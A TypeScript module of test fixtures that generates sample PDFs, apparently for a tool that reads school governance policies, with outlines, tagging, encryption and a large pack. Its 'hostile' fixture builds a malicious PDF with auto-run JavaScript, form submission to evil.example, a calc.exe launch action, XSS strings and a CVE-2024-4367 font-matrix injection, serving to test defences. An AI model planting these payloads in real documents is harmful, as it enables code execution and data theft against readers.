import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts, rgb, type PDFFont, type PDFPage, type PDFRef } from 'pdf-lib';

/** A sentence that is asked about; on the page it is broken over lines. */
export const SENTENCE = 'A suspension of more than five school days is reported to the governing board without delay';

const SECTIONS = [
  'The head teacher may suspend a pupil for one or more fixed periods, up to a maximum of forty-five school days in a single academic year. ' +
    `${SENTENCE}, with the reasons and the arrangements made for the pupil’s education.`,
  'Parents are told in writing on the same day, including how they may make representations and who will consider them. ' +
    'Work is set and marked from the first day, and from the sixth day full-time education is arranged elsewhere.',
  'The board reviews the pattern of suspensions each term, by year group and by context, in a form in which no child can be recognised. ' +
    'Where a pattern is found, the head teacher reports what is being done about it and when it will be looked at again.',
  'Staff may use reasonable force only to keep people safe. Every use is written down the same day and parents are told. ' +
    'Searches are carried out by two members of staff, one of them of the same sex as the pupil, and never as a punishment.',
];

/** Lines no wider than so many points; a word is hyphenated where that is asked for. */
function wrap(text: string, font: PDFFont, size: number, width: number): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    const longer = line ? `${line} ${word}` : word;
    if (font.widthOfTextAtSize(longer, size) <= width) line = longer;
    else if (word === 'arrangements' || word === 'representations') {
      lines.push(`${line} ${word.slice(0, 7)}-`);
      line = word.slice(7);
    } else {
      lines.push(line);
      line = word;
    }
  }
  return [...lines, line];
}

function write(page: PDFPage, serif: PDFFont, bold: PDFFont, number: number): void {
  const { height, width } = page.getSize();
  let y = height - 90;
  page.drawText(`${number}. ${['Suspension and exclusion', 'Telling parents', 'The board’s part', 'Force and searches'][number % 4]}`, { x: 72, y, size: 17, font: bold });
  for (let part = 0; part < 5; part += 1) {
    y -= 34;
    for (const line of wrap(part === 0 ? `Section ${number}. ${SECTIONS[0]}` : SECTIONS[(number + part) % 3 + 1], serif, 12, width - 144)) {
      page.drawText(line, { x: 72, y, size: 12, font: serif, color: rgb(0.11, 0.14, 0.2) });
      y -= 18;
    }
  }
}

/** A paper that says these paragraphs, one list for each page. */
export async function saying(pages: string[][]): Promise<Uint8Array> {
  const paper = await PDFDocument.create();
  const serif = await paper.embedFont(StandardFonts.TimesRoman);
  for (const paragraphs of pages) {
    const page = paper.addPage([595, 842]);
    let y = 760;
    for (const paragraph of paragraphs) {
      for (const line of wrap(paragraph, serif, 12, 451)) {
        page.drawText(line, { x: 72, y, size: 12, font: serif });
        y -= 18;
      }
      y -= 16;
    }
  }
  return paper.save();
}

/** A policy such as a board reads: headings, contents, a coloured picture on its second page, a link to its last and one out. */
export async function policy(pages = 12): Promise<Uint8Array> {
  const paper = await PDFDocument.create();
  const serif = await paper.embedFont(StandardFonts.TimesRoman);
  const bold = await paper.embedFont(StandardFonts.TimesRomanBold);
  for (let number = 1; number <= pages; number += 1) write(paper.addPage([595, 842]), serif, bold, number);
  if (pages > 1) paintPicture(paper, paper.getPage(1));
  const { context } = paper;
  const link = (rect: number[], rest: object) => context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, Border: [0, 0, 0], ...rest } as never));
  paper.getPage(0).node.set(
    PDFName.of('Annots'),
    context.obj([
      link([72, 60, 200, 80], { Dest: [paper.getPage(pages - 1).ref, PDFName.of('Fit')] }),
      link([300, 60, 500, 80], { A: { S: 'URI', URI: PDFString.of('https://evil.example/away') } }),
    ]),
  );
  paper.getPage(0).drawText('To the last page', { x: 72, y: 66, size: 11, font: serif, color: rgb(0.1, 0.25, 0.5) });
  paper.getPage(0).drawText('https://evil.example/away', { x: 300, y: 66, size: 11, font: serif, color: rgb(0.1, 0.25, 0.5) });
  outline(paper, pages);
  return paper.save({ useObjectStreams: false });
}

function outline(paper: PDFDocument, pages: number): void {
  const { context } = paper;
  const root = context.nextRef();
  const refs: PDFRef[] = Array.from({ length: pages }, () => context.nextRef());
  refs.forEach((ref, index) =>
    context.assign(
      ref,
      context.obj({
        Title: PDFString.of(`Section ${index + 1}`),
        Parent: root,
        Dest: [paper.getPage(index).ref, PDFName.of('XYZ'), 0, 760, 0],
        ...(index > 0 ? { Prev: refs[index - 1] } : {}),
        ...(index < pages - 1 ? { Next: refs[index + 1] } : {}),
      } as never),
    ),
  );
  context.assign(root, context.obj({ Type: 'Outlines', First: refs[0], Last: refs.at(-1)!, Count: pages } as never));
  paper.catalog.set(PDFName.of('Outlines'), root);
}

/** A picture in plain colours: red on the left, blue on the right. */
function paintPicture(paper: PDFDocument, page: PDFPage): void {
  const pixels = new Uint8Array(60 * 40 * 3);
  for (let index = 0; index < 60 * 40; index += 1) pixels.set(index % 60 < 30 ? [220, 40, 40] : [40, 60, 220], index * 3);
  place(paper, page, pixels, 60, 40, 'DeviceRGB', [150, 0, 0, 100, 72, 90]);
}

function place(paper: PDFDocument, page: PDFPage, pixels: Uint8Array, width: number, height: number, space: string, matrix: number[]): void {
  const { context } = paper;
  const image = context.register(context.stream(pixels, { Type: 'XObject', Subtype: 'Image', Width: width, Height: height, ColorSpace: space, BitsPerComponent: 8 } as never));
  const name = page.node.newXObject('Picture', image);
  const content = context.register(context.stream(`q ${matrix.join(' ')} cm ${name.toString()} Do Q`));
  page.node.addContentStream(content);
}

/** One page that says what its parts are: a heading, a paragraph, a picture in words, and a line that is no part of it. */
export async function tagged(): Promise<Uint8Array> {
  const paper = await PDFDocument.create();
  const page = paper.addPage([595, 842]);
  const { context } = paper;
  const font = page.node.newFontDictionary('Serif', (await paper.embedFont(StandardFonts.TimesRoman)).ref).toString();
  const line = (open: string, y: number, text: string) => `${open} BDC BT ${font} 16 Tf 72 ${y} Td (${text}) Tj ET EMC\n`;
  const content = [
    line('/H1 <</MCID 0>>', 780, '4'),
    line('/H1 <</MCID 3>>', 760, 'Attendance'),
    line('/P <</MCID 1>>', 720, 'It rose in the spring.'),
    line('/Figure <</MCID 2>>', 680, '[...]'),
    line('/Artifact <</Type /Pagination>>', 40, 'Page footer'),
  ];
  page.node.set(PDFName.of('Contents'), context.register(context.stream(content.join(''))));
  const root = context.nextRef();
  const parts = [['H1', undefined], ['P', undefined], ['Figure', 'A line that rises from 91 to 95 per cent']].map(([kind, alt], id) =>
    context.register(context.obj({ Type: 'StructElem', S: kind, P: root, Pg: page.ref, K: id === 0 ? [0, 3] : id, ...(alt ? { Alt: PDFString.of(alt) } : {}) } as never)),
  );
  context.assign(root, context.obj({ Type: 'StructTreeRoot', K: parts, ParentTree: { Nums: [0, [...parts, parts[0]]] } } as never));
  page.node.set(PDFName.of('StructParents'), context.obj(0));
  paper.catalog.set(PDFName.of('StructTreeRoot'), root);
  paper.catalog.set(PDFName.of('MarkInfo'), context.obj({ Marked: true }));
  return paper.save({ useObjectStreams: false });
}

/** As long as a board's whole pack: so many pages, each with a picture of noise that nothing makes smaller. */
export async function pack(pages = 200, bytes = 30 * 1024 * 1024): Promise<Uint8Array> {
  const paper = await PDFDocument.create();
  const serif = await paper.embedFont(StandardFonts.TimesRoman);
  const bold = await paper.embedFont(StandardFonts.TimesRomanBold);
  const side = Math.ceil(Math.sqrt(bytes / pages));
  let seed = 1;
  for (let number = 1; number <= pages; number += 1) {
    const page = paper.addPage([595, 842]);
    write(page, serif, bold, number);
    const noise = new Uint8Array(side * side);
    for (let index = 0; index < noise.length; index += 1) noise[index] = (seed = (seed * 1103515245 + 12345) & 0x7fffffff) >> 16;
    place(paper, page, noise, side, side, 'DeviceGray', [140, 0, 0, 100, 72, 60]);
  }
  return paper.save({ useObjectStreams: false });
}

/** A file of these objects, of which the first is the catalogue, byte for byte as they are. */
function written(objects: string[], trailer = ''): Buffer {
  const parts = ['%PDF-1.4\n'];
  const places: number[] = [];
  let at = parts[0].length;
  for (const [index, object] of objects.entries()) {
    const part = `${index + 1} 0 obj\n${object}\nendobj\n`;
    places.push(at);
    parts.push(part);
    at += part.length;
  }
  parts.push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`);
  for (const place of places) parts.push(`${String(place).padStart(10, '0')} 00000 n \n`);
  parts.push(`trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`);
  return Buffer.from(parts.join(''), 'latin1');
}

const stream = (content: string) => `<</Length ${content.length}>>\nstream\n${content}\nendstream`;

/** So many small pages, each with its number, in a tree of a hundred to a branch. */
export function sheets(pages: number): Buffer {
  const branches = Math.ceil(pages / 100);
  const branch = (index: number) => 4 + index;
  const sheet = (index: number) => 4 + branches + 2 * index;
  const list = (length: number, number: (index: number) => number) => Array.from({ length }, (_, index) => `${number(index)} 0 R`).join(' ');
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${list(branches, branch)}]/Count ${pages}/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>',
  ];
  for (let index = 0; index < branches; index += 1) {
    const held = Math.min(100, pages - index * 100);
    objects.push(`<</Type/Pages/Parent 2 0 R/Kids[${list(held, (one) => sheet(index * 100 + one))}]/Count ${held}>>`);
  }
  for (let index = 0; index < pages; index += 1) {
    objects.push(`<</Type/Page/Parent ${branch(Math.floor(index / 100))} 0 R/Contents ${sheet(index) + 1} 0 R>>`);
    objects.push(stream(`BT /F 24 Tf 72 700 Td (Sheet ${index + 1}) Tj ET`));
  }
  return written(objects);
}

/** Fills up a password (ISO 32000-1, 7.6.3.3). */
const PADDING = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');

/** One page that anybody opens, and that permits so much (ISO 32000-1, table 22): -4 all, -8 all but printing. */
export function sealed(permits: -4 | -8): Buffer {
  const owner = Buffer.alloc(32, 'o');
  const id = Buffer.alloc(16, 'i');
  const permitted = Buffer.alloc(4);
  permitted.writeInt32LE(permits);
  const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();
  const key = md5(PADDING, owner, permitted, id).subarray(0, 5);
  const content = 5;
  const own = md5(key, Buffer.from([content, 0, 0, 0, 0])).subarray(0, 10);
  const lines = rc4(own, Buffer.from('BT /F 24 Tf 72 700 Td (For the screen) Tj ET', 'latin1')).toString('latin1');
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
  return written(
    [
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[4 0 R]/Count 1>>',
      '<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>',
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>/Contents ${content} 0 R>>`,
      stream(lines),
    ],
    `/ID[${hex(id)}${hex(id)}]/Encrypt<</Filter/Standard/V 1/R 2/Length 40/P ${permits}/O${hex(owner)}/U${hex(rc4(key, PADDING))}>>`,
  );
}

function rc4(key: Buffer, bytes: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, index) => index);
  const swap = (one: number, other: number) => ([state[one], state[other]] = [state[other], state[one]]);
  for (let [i, j] = [0, 0]; i < 256; i += 1) {
    j = (j + state[i] + key[i % key.length]) & 255;
    swap(i, j);
  }
  let [i, j] = [0, 0];
  return Buffer.from(
    bytes.map((byte) => {
      i = (i + 1) & 255;
      j = (j + state[i]) & 255;
      swap(i, j);
      return byte ^ state[(state[i] + state[j]) & 255];
    }),
  );
}

/** What a paper must never be able to do: scripts at opening and at a page, a form that sends itself, XFA, starting a program. */
export async function hostile(): Promise<Uint8Array> {
  const paper = await PDFDocument.create();
  const serif = await paper.embedFont(StandardFonts.TimesRoman);
  const page = paper.addPage([595, 842]);
  page.drawText('A hostile paper', { x: 72, y: 700, size: 20, font: serif });
  page.drawText('<img src=x onerror=alert(1)> <script>alert(2)</script>', { x: 72, y: 660, size: 12, font: serif });
  const { context } = paper;
  const script = { S: 'JavaScript', JS: PDFString.of("app.alert('owned'); this.submitForm('http://evil.example/')") };
  paper.catalog.set(PDFName.of('OpenAction'), context.obj(script as never));
  page.node.set(PDFName.of('AA'), context.obj({ O: script } as never));
  const rect = [72, 300, 500, 560];
  const annotations = [
    { Subtype: 'Link', Rect: rect, A: script },
    { Subtype: 'Link', Rect: rect, A: { S: 'Launch', F: PDFString.of('calc.exe') } },
    { Subtype: 'Link', Rect: rect, A: { S: 'URI', URI: PDFString.of('javascript:alert(3)') } },
    { Subtype: 'Widget', FT: 'Btn', T: PDFString.of('go'), Rect: rect, A: { S: 'SubmitForm', F: PDFString.of('http://evil.example/') } },
  ].map((annotation) => context.register(context.obj({ Type: 'Annot', ...annotation } as never)));
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  const xfa = context.register(context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(4)</script></template></xdp:xdp>'));
  paper.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [annotations[3]], XFA: xfa } as never));
  // CVE-2024-4367: a font's matrix that once became part of a program.
  const font = context.register(
    context.obj({
      Type: 'Font', Subtype: 'Type1', BaseFont: 'Evil', FirstChar: 65, LastChar: 65, Widths: [600],
      FontMatrix: [1, 2, 3, 4, 5, PDFString.of("1); parent.postMessage('owned', '*'); (0")],
    } as never),
  );
  const name = page.node.newFontDictionary('Evil', font);
  page.node.addContentStream(context.register(context.stream(`BT ${name.toString()} 40 Tf 72 200 Td (A) Tj ET`)));
  return paper.save({ useObjectStreams: false });
}

/** A picture of so many pixels (PNG): red turning to blue. */
export function photograph(width = 640, height = 400): Buffer {
  const rows = Buffer.alloc(height * (1 + width * 3));
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) rows.set([255 - (x * 255) / width, (y * 160) / height, (x * 255) / width], y * (1 + width * 3) + 1 + x * 3);
  }
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(name: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** As PNG has it (ISO 3309). */
function crc32(bytes: Buffer): number {
  let rest = ~0;
  for (const byte of bytes) {
    rest ^= byte;
    for (let bit = 0; bit < 8; bit += 1) rest = (rest >>> 1) ^ (rest & 1 ? 0xedb88320 : 0);
  }
  return ~rest >>> 0;
}
